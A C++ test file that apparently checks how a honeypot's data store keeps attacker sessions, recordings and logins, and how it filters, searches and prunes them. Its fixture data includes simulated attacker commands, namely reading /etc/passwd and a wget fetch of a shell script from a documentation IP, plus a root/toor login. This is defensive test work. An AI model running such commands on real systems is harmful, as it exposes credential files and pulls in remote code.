// The contract of what the store keeps of sessions: recordings, logins that were let in, and the
// filters of their list.
#include <gmock/gmock.h>

#include "base/hash.h"
#include "store/contract.h"

namespace decnet::store {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::SizeIs;

class SessionsContract : public StoreContract {
 protected:
  event::Event command(std::string_view ip, std::string_view session, std::string_view text) {
    return maker_.peer(event::kCommand, ip, session).add("command", text);
  }
  event::Event segment(std::string_view ip, std::string_view session, int recording, int number,
                       int duration_ms, bool is_final) {
    event::Event event = maker_.peer(event::kRecording, ip, session);
    event.add("artifact", sha256_hex(std::string(session) + std::to_string(number)));
    event.add("duration_ms", duration_ms).add("format", "asciicast v2");
    event.add("recording", recording).add("segment", number).add("size", 100 + number);
    if (is_final) event.add("final", "true");
    return event;
  }
  event::Event end(std::string_view ip, std::string_view session, int duration_ms) {
    return maker_.peer(event::kSessionEnded, ip, session).add("duration_ms", duration_ms);
  }
  // One that was recorded and in which two commands were given, one without, one still open.
  void fill() {
    commit({maker_.login("192.0.2.1", "one", "root", "toor", "accepted"),
            command("192.0.2.1", "one", "uname -a"), command("192.0.2.2", "two", "cat /etc/passwd"),
            command("192.0.2.1", "one", "wget http://203.0.113.9/100%_x.sh"),
            segment("192.0.2.1", "one", 0, 1, 61'000, true),
            segment("192.0.2.1", "one", 0, 0, 30'000, false),
            maker_.login("192.0.2.2", "two", "root", "x"), end("192.0.2.1", "one", 65'000),
            end("192.0.2.2", "two", 4'000),
            maker_.peer(event::kSessionStarted, "192.0.2.2", "open"),
            segment("192.0.2.2", "open", 1, 0, 30'000, false)});
  }
  std::vector<Uuid> found(const SessionFilter& filter) {
    const auto page = store_->attackers().sessions(filter, {});
    EXPECT_TRUE(page) << page.error().detail;
    std::vector<Uuid> out;
    if (!page) return out;
    for (const SessionRow& row : page->rows) out.push_back(row.uuid);
    EXPECT_EQ(store_->attackers().count(filter).value(), out.size());
    return out;
  }
  static SessionFilter with(std::string command) {
    SessionFilter filter;
    filter.command = std::move(command);
    return filter;
  }
  const Uuid one_ = Maker::session_uuid("one"), two_ = Maker::session_uuid("two"),
             open_ = Maker::session_uuid("open");
};

TEST_P(SessionsContract, KeepsTheSegmentsOfARecordingInTheirOrder) {
  fill();
  const auto segments = store_->attackers().segments(one_);
  ASSERT_TRUE(segments);
  ASSERT_THAT(*segments, SizeIs(2));
  EXPECT_EQ((*segments)[0].segment, 0U);
  EXPECT_EQ((*segments)[0].sha256, sha256_hex("one0"));
  EXPECT_EQ((*segments)[0].size, 100U);
  EXPECT_FALSE((*segments)[0].is_final);
  EXPECT_EQ((*segments)[1].duration_ms, 61'000U);
  EXPECT_TRUE((*segments)[1].is_final);
  const auto row = store_->attackers().session(one_);
  ASSERT_TRUE(row);
  EXPECT_EQ(row->segments, 2U);
  EXPECT_EQ(row->recorded_ms, 61'000U);
  EXPECT_EQ(row->accepted, 1U);
  EXPECT_EQ(store_->attackers().session(two_)->accepted, 0U);
  EXPECT_THAT(store_->attackers().segments(two_).value(), IsEmpty());
  EXPECT_THAT(store_->attackers().segments(Uuid::v8("x")).value(), IsEmpty());
  EXPECT_EQ(store_->attackers().segments(open_)->front().recording, 1U);
  expect_sound();
}

TEST_P(SessionsContract, ARecordingWithoutSegmentsIsWhole) {
  event::Event event = maker_.peer(event::kRecording, "192.0.2.1", "one");
  commit({event.add("artifact", sha256_hex("x")).add("duration_ms", 7).add("format", "x")});
  EXPECT_TRUE(store_->attackers().segments(one_)->front().is_final);
}

TEST_P(SessionsContract, FiltersByWhatHappened) {
  fill();
  SessionFilter filter;
  filter.has_recording = true;
  EXPECT_THAT(found(filter), ElementsAre(open_, one_));
  filter.has_recording = false;
  EXPECT_THAT(found(filter), ElementsAre(two_));
  SessionFilter login;
  login.has_login = true;
  EXPECT_THAT(found(login), ElementsAre(one_));
  SessionFilter ip;
  ip.ip = "::ffff:192.0.2.2";
  EXPECT_THAT(found(ip), ElementsAre(open_, two_));
  ip.ip = "192.0.2.99";
  EXPECT_THAT(found(ip), IsEmpty());
  SessionFilter longer;
  longer.duration_min_ms = 30'000;
  EXPECT_THAT(found(longer), ElementsAre(open_, one_));
}

TEST_P(SessionsContract, FindsTheTextOfACommand) {
  fill();
  EXPECT_THAT(found(with("uname")), ElementsAre(one_));
  EXPECT_THAT(found(with("100%_x")), ElementsAre(one_));
  EXPECT_THAT(found(with("1__%")), IsEmpty()) << "not a pattern";
  EXPECT_THAT(found(with("192.0.2.1")), IsEmpty()) << "only commands are searched";
  SessionFilter both = with("passwd");
  both.has_recording = true;
  EXPECT_THAT(found(both), IsEmpty());
  EXPECT_EQ(store_->attackers().sessions(with(std::string(5'000, 'x')), {}).error().code,
            Errc::invalid_argument);
}

TEST_P(SessionsContract, WhatRetentionTakesIsCounted) {
  fill();
  const TimePoint cut = maker_.now();
  maker_.set_now(cut + std::chrono::hours{1});
  commit({command("192.0.2.2", "open", "id"), segment("192.0.2.2", "open", 1, 1, 60'000, true)});
  Retention retention;
  retention.age_max = std::chrono::minutes{30};
  const TimePoint now = cut + std::chrono::hours{1} + std::chrono::minutes{1};
  for (;;) {
    const auto more = store_->maintenance().prune(retention, now);
    ASSERT_TRUE(more) << more.error().detail;
    if (!*more) break;
  }
  EXPECT_EQ(store_->attackers().session(one_).error().code, Errc::not_found);
  EXPECT_THAT(store_->attackers().segments(one_).value(), IsEmpty());
  EXPECT_THAT(store_->attackers().segments(open_).value(), SizeIs(1));
  EXPECT_THAT(found(with("id")), ElementsAre(open_));
  expect_sound();
}

DECNET_STORE_CONTRACT(SessionsContract);

}  // namespace
}  // namespace decnet::store
